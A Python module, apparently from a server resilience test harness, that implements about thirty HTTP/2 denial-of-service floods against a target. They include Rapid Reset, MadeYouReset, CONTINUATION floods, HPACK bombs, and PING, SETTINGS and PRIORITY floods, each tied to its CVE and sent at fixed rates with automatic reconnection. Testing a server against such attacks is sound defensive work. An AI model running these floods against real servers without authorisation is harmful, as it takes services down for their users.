"""Floods of HTTP/2 frames: cheap for the attacker, and perhaps not for the server and its other clients."""

import frames
from frames import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, PRIORITY, SETTINGS, frame
from registry import attack
from wire import Wire

HEALTHZ = frames.get("/healthz")
WATCH = frames.call(frames.WATCH_MODELS)
# An attacker whose connection is closed comes back, so many times a second at most.
RETURNS = 20


def flood(run, make, rate, reads=True, start=None, settings=None, acknowledges=True, receive_buffer=None):
    """Sends `make(wire, count)` at so many units a second, on one connection that is opened anew when the server closes it.
    `start(wire)` prepares each connection."""
    wire, opened = None, 0
    for count in run.ticks(rate):
        if wire is None or not wire.is_open:
            if wire:
                run.ended(wire)
            if opened > RETURNS * (run.passed + 1):
                continue
            opened += 1
            wire = Wire(run.target, settings=settings, acknowledges=acknowledges, receive_buffer=receive_buffer)
            if start:
                wire.take(0.2)
                start(wire)
        if reads:
            wire.take()
        if not wire.is_blocked:
            wire.send(make(wire, count))
            run.sent += count
    if wire:
        run.ended(wire)


def requests(wire, count, one):
    return b"".join(one(wire.stream()) for _ in range(count))


@attack("10,000 streams/s, each reset at once")
def rapid_reset(run):
    """CVE-2023-44487: HEADERS and RST_STREAM, again and again."""
    flood(run, lambda wire, count: requests(
        wire, count, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, HEALTHZ) + frames.reset(stream)), 10_000)


def made_you_reset(run, cause):
    """A stream that has begun, and then a frame that makes the server reset it."""
    flood(run, lambda wire, count: requests(
        wire, count, lambda stream: frame(HEADERS, END_HEADERS, stream, WATCH) + cause(stream)), 3_000)


@attack("3,000 streams/s")
def made_you_reset_by_window_0(run):
    """CVE-2025-8671, MadeYouReset: WINDOW_UPDATE with an increment of 0."""
    made_you_reset(run, lambda stream: frames.window_update(stream, 0))


@attack("3,000 streams/s", is_quick=False)
def made_you_reset_by_window_overflow(run):
    """CVE-2025-8671: WINDOW_UPDATE over 2^31 - 1."""
    made_you_reset(run, lambda stream: frames.window_update(stream, frames.LARGEST_WINDOW))


@attack("3,000 streams/s")
def made_you_reset_by_data_after_the_end(run):
    """CVE-2025-8671: DATA behind END_STREAM, on a watch that the server still answers."""
    body = frames.message(b"")
    made_you_reset(run, lambda stream: frame(DATA, END_STREAM, stream, body) + frame(DATA, 0, stream, body))


@attack("3,000 streams/s")
def made_you_reset_by_priority(run):
    """CVE-2025-8671: PRIORITY of a stream that depends on itself."""
    made_you_reset(run, lambda stream: frames.priority(stream, stream))


@attack("3,000 streams/s")
def made_you_reset_by_content_length(run):
    """CVE-2019-9514 and CVE-2025-8671: a body that is longer than its content-length (RFC 9113, 8.1.1)."""
    head = frames.call(frames.GET_MODEL) + frames.block([("content-length", "1")])
    flood(run, lambda wire, count: requests(
        wire, count, lambda stream: frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, b"12345")),
        3_000)


@attack("5,000 streams/s, malformed")
def malformed_requests(run):
    """CVE-2019-9514, reset flood: requests without pseudo-headers, which the server resets; the attacker does not read."""
    flood(run, lambda wire, count: requests(
        wire, count, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, frames.block([("a", "b")]))), 5_000,
        reads=False, receive_buffer=4_096)


@attack("5,000 streams/s, nothing read")
def empty_headers(run):
    """HEADERS with an empty block, again and again."""
    flood(run, lambda wire, count: requests(
        wire, count, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream)), 5_000, reads=False,
        receive_buffer=4_096)


def streams_that_stay(wire, count):
    """Requests that do not end."""
    one = frame(HEADERS, END_HEADERS, 0, b"\x82\x86\x84\x01\x01a")
    before, after = one[:5], one[9:]
    first, wire.next = wire.next, wire.next + 2 * count
    return b"".join([before + stream.to_bytes(4, "big") + after for stream in range(first, wire.next, 2)])


@attack("300,000 streams/s, no ACK, nothing read")
def refused_streams(run):
    """Streams over the maximum, whose RST_STREAMs queue up while the attacker neither reads nor acknowledges SETTINGS."""
    flood(run, streams_that_stay, 300_000, reads=False, acknowledges=False, receive_buffer=4_096)


@attack("50,000 streams/s over the acknowledged maximum")
def refused_streams_read(run):
    """Streams over a maximum that the attacker has acknowledged; it reads every RST_STREAM."""
    flood(run, streams_that_stay, 50_000)


@attack("1 MB/s, endless")
def continuation_flood(run):
    """CVE-2024-27316 and others: a header block that never ends."""
    piece = frames.literal("x", "y" * 990)

    def start(wire):
        wire.send(frame(HEADERS, 0, wire.stream(), HEALTHZ))

    flood(run, lambda wire, count: frame(CONTINUATION, 0, wire.next - 2, piece) * count, 1_000, start=start)


@attack("10,000/s", is_quick=False)
def empty_continuations(run):
    """CVE-2024-27316 and others: CONTINUATION frames without a byte."""

    def start(wire):
        wire.send(frame(HEADERS, 0, wire.stream(), HEALTHZ))

    flood(run, lambda wire, count: frame(CONTINUATION, 0, wire.next - 2) * count, 10_000, start=start)


def bomb(run, name_size, value_size, pieces):
    """Puts one long field into HPACK's table, then sends blocks of 16,000 references to it, 1 MB/s."""
    block = HEALTHZ + b"\xbe" * 16_000

    def start(wire):
        long = frames.literal("n" * name_size, "v" * value_size, first=0x40)
        wire.send(frame(HEADERS, END_HEADERS | END_STREAM, wire.stream(), HEALTHZ + long))

    def one(stream):
        if pieces == 1:
            return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
        more = [frame(CONTINUATION, END_HEADERS if last else 0, stream, b"\xbe" * 16_000)
                for last in [False] * (pieces - 2) + [True]]
        return frame(HEADERS, END_STREAM, stream, block) + b"".join(more)

    flood(run, lambda wire, count: requests(wire, count, one), 1_000_000 / 16_000 / pieces, start=start)


@attack("1 MB/s, 62 blocks/s that say 64 MB each")
def hpack_bomb(run):
    """CVE-2016-6581: one field of 4,000 bytes from HPACK's table, 16,000 times a block."""
    bomb(run, 10, 3_900, 1)


@attack("1 MB/s, blocks of 8 frames that say 512 MB each")
def hpack_bomb_continued(run):
    """CVE-2016-6581 with CONTINUATION frames: as many as nghttp2 takes."""
    bomb(run, 10, 3_900, 8)


@attack("1 MB/s, 62 blocks/s, a long name", is_quick=False)
def hpack_bomb_of_names(run):
    """CVE-2016-6581 with the length in the field's name, which is validated letter by letter."""
    bomb(run, 3_900, 10, 1)


@attack("100 blocks/s of 5,000 fields")
def headers_of_length_0(run):
    """CVE-2019-9516: fields with neither name nor value."""
    block = HEALTHZ + b"\0\0\0" * 5_000
    flood(run, lambda wire, count: requests(
        wire, count, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block)), 100)


@attack("20,000/s")
def pings(run):
    """CVE-2019-9512: PING, the acknowledgements read."""
    flood(run, lambda wire, count: frame(PING, 0, 0, b"12345678") * count, 20_000)


@attack("20,000/s, nothing read")
def pings_unread(run):
    """CVE-2019-9512: PING, the acknowledgements left to queue."""
    flood(run, lambda wire, count: frame(PING, 0, 0, b"12345678") * count, 20_000, reads=False, receive_buffer=4_096)


@attack("5,000/s")
def settings_flood(run):
    """CVE-2019-9515: empty SETTINGS, the acknowledgements read."""
    flood(run, lambda wire, count: frame(SETTINGS, 0, 0) * count, 5_000)


@attack("5,000/s, nothing read", is_quick=False)
def settings_unread(run):
    """CVE-2019-9515: empty SETTINGS, the acknowledgements left to queue."""
    flood(run, lambda wire, count: frame(SETTINGS, 0, 0) * count, 5_000, reads=False, receive_buffer=4_096)


@attack("1,000/s with 1,000 streams open")
def settings_of_windows(run):
    """SETTINGS that change the initial window, which the server must apply to every open stream."""
    two = frames.settings({frames.INITIAL_WINDOW_SIZE: 0}) + frames.settings({frames.INITIAL_WINDOW_SIZE: 65_535})

    def start(wire):
        body = frames.message(b"")
        for _ in range(1_000):
            stream = wire.stream()
            wire.send(frame(HEADERS, END_HEADERS, stream, WATCH) + frame(DATA, 0, stream, body[:4]))

    flood(run, lambda wire, count: two * (count // 2 + 1), 1_000, start=start)


@attack("20,000/s")
def priorities(run):
    """CVE-2019-9513, resource loop: PRIORITY of idle streams that change places."""

    def make(wire, count):
        return b"".join(frames.priority(stream % 1_000 * 2 + 3, stream % 7 * 2 + 1001) for stream in range(count))

    flood(run, make, 20_000)


def on_one_call(run, piece, rate):
    """Frames on one call that never ends."""

    def start(wire):
        wire.send(frame(HEADERS, END_HEADERS, wire.stream(), frames.call(frames.GET_MODEL)))

    flood(run, lambda wire, count: piece(wire.next - 2) * count, rate, start=start)


@attack("20,000/s")
def empty_data(run):
    """CVE-2019-9518: DATA without a byte and without an end."""
    on_one_call(run, lambda stream: frame(DATA, 0, stream), 20_000)


@attack("5,000/s", is_quick=False)
def padding(run):
    """DATA that is padding alone."""
    on_one_call(run, lambda stream: frame(DATA, PADDED, stream, b"\xff" + bytes(255)), 5_000)


@attack("5,000 streams/s with trailers", is_quick=False)
def trailers(run):
    """CVE-2019-9518: a second block of HEADERS, empty but for END_STREAM."""
    flood(run, lambda wire, count: requests(
        wire, count, lambda stream: frame(HEADERS, END_HEADERS, stream, frames.call(frames.GET_MODEL))
        + frame(HEADERS, END_HEADERS | END_STREAM, stream)), 5_000)


@attack("20,000/s")
def window_updates(run):
    """WINDOW_UPDATE of one byte each, of the connection and of a stream."""

    def start(wire):
        wire.send(frame(HEADERS, END_HEADERS, wire.stream(), WATCH))

    flood(run, lambda wire, count: (
        frames.window_update(0, 1) + frames.window_update(wire.next - 2, 1)) * (count // 2 + 1), 20_000, start=start)


@attack("20,000/s", is_quick=False)
def unknown_frames(run):
    """Frames of an unknown type, which the server must ignore (RFC 9113, 5.5)."""
    flood(run, lambda wire, count: frame(0x77, 0, 0, b"x") * count, 20_000)


@attack("20,000/s")
def frames_of_closed_streams(run):
    """DATA, WINDOW_UPDATE and RST_STREAM of a stream that has ended."""

    def start(wire):
        wire.get("/healthz")
        wire.take(0.2)

    flood(run, lambda wire, count: (
        frame(DATA, 0, 1, b"x") + frames.window_update(1, 1) + frames.reset(1)) * (count // 3 + 1), 20_000, start=start)


@attack("3,000/s, malformed", is_quick=False)
def priority_of_wrong_size(run):
    """CVE-2025-8671: PRIORITY of 4 bytes, a FRAME_SIZE_ERROR of its stream."""
    made_you_reset(run, lambda stream: frame(PRIORITY, 0, stream, b"1234"))
